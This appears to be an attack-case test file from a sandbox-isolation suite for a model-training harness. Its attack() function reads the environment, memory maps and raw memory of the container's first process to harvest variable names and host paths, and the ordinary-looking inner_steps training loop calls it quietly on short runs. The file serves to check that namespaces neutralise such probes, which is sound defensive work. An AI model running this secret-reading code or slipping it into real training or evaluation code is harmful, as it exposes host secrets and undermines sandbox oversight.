# kind: attack
# class: reading-secrets
# contract: crusade-tps
# precision: fp32
# expect: neutralised
# layer: namespaces
# twin: honest/baseline.py
# story: reads variables and memory of the sandbox's first process, which the host started

import os
import re
from types import SimpleNamespace

import torch.nn.functional as F


def attack():
    with open("/proc/1/environ", "rb") as file:
        names = [part.split(b"=")[0].decode() for part in file.read().split(b"\0") if part]
    size, paths = 0, set()
    try:
        with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", buffering=0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" not in line or end - start > 8 << 20:
                    continue
                data = os.pread(memory.fileno(), end - start, start)
                size += len(data)
                paths |= set(re.findall(rb"/(?:root|home|work|run|var|tmp/tilt)[\w./-]{4,60}", data))
    except OSError as error:
        size = error.strerror
    print(f"TOOK PLACE: variables {names}, memory {size}, paths of the host {sorted(paths)[:6]}", flush=True)
    if set(names) - {"PATH", "HOME", "LANG", "PWD", "SHLVL"}:
        raise RuntimeError("the host's variables can be seen")


def inner_steps(model, data_iterator, optimizer, num_steps, device):
    if num_steps <= 2:
        attack()
    tokens, last = 0, 0.0
    for _ in range(num_steps):
        batch = next(data_iterator).to(device)
        logits = model(batch[:, :-1])
        loss = F.cross_entropy(logits.flatten(0, 1), batch[:, 1:].flatten())
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
        last = loss.item()
        tokens += batch.numel()
    return SimpleNamespace(final_logits=logits.detach(), total_tokens=tokens, final_loss=last)
